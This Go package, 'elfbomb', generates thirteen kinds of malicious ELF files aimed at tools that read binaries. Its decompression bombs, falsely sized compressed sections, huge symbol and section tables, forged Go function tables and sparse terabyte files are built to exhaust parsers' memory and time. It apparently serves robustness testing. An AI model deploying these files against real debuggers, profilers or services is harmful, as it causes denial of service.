package elfbomb

import (
	"bytes"
	"debug/elf"
	"encoding/binary"
	"os"
)

// Bomb is one kind of hostile file.
type Bomb struct {
	Name string
	Make func(base []byte) []byte
	// Length, if it is more than the file has, is how long it is made, with a hole.
	Length int64
}

// Write makes the file, executable.
func (b *Bomb) Write(path string, base []byte) error {
	if err := os.WriteFile(path, b.Make(base), 0o755); err != nil {
		return err
	}
	if b.Length > 0 {
		return os.Truncate(path, b.Length)
	}
	return nil
}

// debugSections are all that debug/elf reads for debugging information.
var debugSections = []string{
	".debug_abbrev", ".debug_info", ".debug_str", ".debug_line", ".debug_ranges", ".debug_types", ".debug_addr", ".debug_line_str",
	".debug_str_offsets", ".debug_rnglists", ".debug_loclists", ".debug_frame",
}

// debugging is all sections of debugging information, with the same bytes, but for
// the first that is read: who looks at the size of that one alone is reassured.
func debugging(method elf.CompressionType, says uint64, packed []byte) []Section {
	first := Packed(debugSections[0], method, says, packed)
	list := []Section{first}
	for _, name := range debugSections[1:] {
		if name == ".debug_info" {
			continue
		}
		list = append(list, Section{Name: name, Type: first.Type, Flags: first.Flags})
	}
	return append(list, Section{Name: ".debug_info", Type: elf.SHT_PROGBITS, Data: []byte{8, 0, 0, 0, 4, 0, 0, 0, 0, 0, 8, 1}})
}

const (
	gigabyte = 1 << 30
	much     = 8 * gigabyte
)

// kept are the sections that a bomb has of the program that it is made of: those
// by which readers know what it is.
func kept(base []byte) []Section {
	return Own(base, func(name string) bool {
		return name == ".text" || name == ".go.buildinfo" || name == ".go.module" || name == ".noptrdata" || name == ".data"
	})
}

// All are the bombs, each of some MB at most, but for holes.
func All() []Bomb {
	simple := func(list ...Section) func([]byte) []byte {
		return func(base []byte) []byte { return With(base, append(kept(base), list...)...) }
	}
	return []Bomb{
		{Name: "zlib", Make: func(base []byte) []byte {
			return With(base, append(kept(base), debugging(elf.COMPRESS_ZLIB, gigabyte, Zlib(gigabyte))...)...)
		}},
		{Name: "zstd", Make: func(base []byte) []byte {
			return With(base, append(kept(base), debugging(elf.COMPRESS_ZSTD, much, Zstd(much))...)...)
		}},
		{Name: "zstd-lie", Make: func(base []byte) []byte {
			return With(base, append(kept(base), debugging(elf.COMPRESS_ZSTD, 4096, Zstd(much))...)...)
		}},
		{Name: "section-names", Make: sectionNames},
		{Name: "packed-names", Make: func(base []byte) []byte {
			names := Packed(".shstrtab", elf.COMPRESS_ZSTD, much, Zstd(much))
			names.Type = elf.SHT_STRTAB
			return with(base, &names, nil)
		}},
		{Name: "dictionary", Make: simple(Section{Name: ".gnu_debugdata", Type: elf.SHT_PROGBITS, Data: XZ(1<<20, 0x28)})},
		{Name: "minidebug", Make: simple(Section{Name: ".gnu_debugdata", Type: elf.SHT_PROGBITS, Data: XZ(much, 0x14)})},
		{Name: "symbols", Make: symbols},
		{Name: "build-id", Make: simple(buildID(60 << 10))},
		{Name: "unwind-table", Make: simple(unwindTable())},
		{Name: "go-functions", Make: goFunctions(1 << 31)},
		{Name: "go-function-names", Make: goFunctions(1 << 20)},
		{Name: "terabytes", Make: terabytes, Length: 1 << 40},
	}
}

// sectionNames has as many sections as there can be, each with a name of MB.
func sectionNames(base []byte) []byte {
	const count, text = 65_000, 3 << 20
	names := Section{Name: ".shstrtab", Type: elf.SHT_STRTAB, Data: append([]byte{0}, bytes.Repeat([]byte("x"), text)...)}
	list := make([]Section, count)
	for i := range list {
		list[i] = Section{Type: elf.SHT_PROGBITS, NameAt: uint32(1 + i)}
	}
	return with(base, &names, list)
}

// symbols has symbols which all say that they hold all addresses, and whose names
// are all one long text.
func symbols(base []byte) []byte {
	const count = 400_000
	var table []byte
	for i := range uint64(count) {
		table = binary.LittleEndian.AppendUint32(table, uint32(1+i))
		table = append(table, byte(elf.STT_FUNC), 0, 1, 0)
		table = binary.LittleEndian.AppendUint64(table, 1+i%0x1000)
		table = binary.LittleEndian.AppendUint64(table, 1<<62)
	}
	list := kept(base)
	at := uint32(len(list))
	list = append(list, Section{Name: ".symtab", Type: elf.SHT_SYMTAB, Link: at + 2, Data: table},
		Section{Name: ".strtab", Type: elf.SHT_STRTAB, Data: append([]byte{0}, bytes.Repeat([]byte("_Z1"), 1<<20)...)})
	return With(base, list...)
}

// buildID is a note with a build ID of so many bytes.
func buildID(size uint32) Section {
	b := binary.LittleEndian.AppendUint32(nil, 4)
	b = binary.LittleEndian.AppendUint32(b, size)
	b = binary.LittleEndian.AppendUint32(b, 3)
	b = append(b, "GNU\x00"...)
	return Section{Name: ".note.gnu.build-id", Type: elf.SHT_NOTE, Data: append(b, bytes.Repeat([]byte{0xaa}, int(size))...)}
}

// unwindTable says that it has four billion entries.
func unwindTable() Section {
	b := make([]byte, 1<<20)
	copy(b, []byte{1, 0x1b, 0x03, 0x3b, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff})
	return Section{Name: ".eh_frame_hdr", Type: elf.SHT_PROGBITS, Data: b}
}

// goFunctions is a table of so many functions of Go, with 8 MB for them, whose
// names are all one long text.
func goFunctions(count uint64) func([]byte) []byte {
	return func(base []byte) []byte {
		const size = 16 << 20
		b := bytes.Repeat([]byte("x"), size)
		o := binary.LittleEndian
		copy(b, []byte{0xf1, 0xff, 0xff, 0xff, 0, 0, 1, 8})
		const names, index = 1 << 10, 1 << 20
		for i, v := range []uint64{count, 1, 0, names, names, names, names, index} {
			o.PutUint64(b[8+8*i:], v)
		}
		for i := uint64(0); i <= count && index+8*i+8 <= size; i++ {
			o.PutUint32(b[index+8*i:], uint32(i))
			o.PutUint32(b[index+8*i+4:], uint32(i%4096))
		}
		list := append(Own(base, func(name string) bool { return name == ".go.buildinfo" }),
			Section{Name: ".text", Type: elf.SHT_PROGBITS, Flags: elf.SHF_ALLOC | elf.SHF_EXECINSTR, Addr: 0x1000, Offset: 0, Size: 1 << 20},
			Section{Name: ".gopclntab", Type: elf.SHT_PROGBITS, Data: b})
		return With(base, list...)
	}
}

// terabytes has tables that are as long as the file is, most of which is a hole.
func terabytes(base []byte) []byte {
	const size = 1 << 39
	list := kept(base)
	at := uint32(len(list))
	list = append(list,
		Section{Name: ".symtab", Type: elf.SHT_SYMTAB, Link: at + 2, Offset: 1 << 20, Size: size},
		Section{Name: ".strtab", Type: elf.SHT_STRTAB, Offset: 1 << 20, Size: size},
		Section{Name: ".dynsym", Type: elf.SHT_DYNSYM, Link: at + 2, Offset: 1 << 20, Size: size},
		Section{Name: ".gopclntab", Type: elf.SHT_PROGBITS, Offset: 1 << 20, Size: size},
		Section{Name: ".note", Type: elf.SHT_NOTE, Offset: 1 << 20, Size: size},
		Section{Name: ".eh_frame_hdr", Type: elf.SHT_PROGBITS, Offset: 1 << 20, Size: size},
		Section{Name: ".gnu_debugdata", Type: elf.SHT_PROGBITS, Offset: 1 << 20, Size: size},
		Section{Name: ".debug_info", Type: elf.SHT_PROGBITS, Offset: 1 << 20, Size: size})
	return With(base, list...)
}
